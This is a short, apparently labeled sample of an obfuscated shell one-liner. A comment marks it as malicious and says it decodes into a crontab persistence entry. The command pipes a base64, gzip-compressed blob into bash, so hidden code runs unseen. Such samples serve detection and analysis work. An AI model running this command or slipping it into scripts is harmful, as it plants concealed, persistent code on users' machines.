# Malicious, obfuscated: base64 + gzip layers decoded into bash; the script is a crontab persistence line.
echo H4sIAAAAAAACA9NILsrPK0lMUtDNsVZITc7IV1DXUoDB5NKiHAXdYoWMkpICK339xJKSxOTs1CK91IrE3IKcVP1khRqF4gx1TSAFN4YLABE6IZ5SAAAA | base64 -d | gunzip | bash
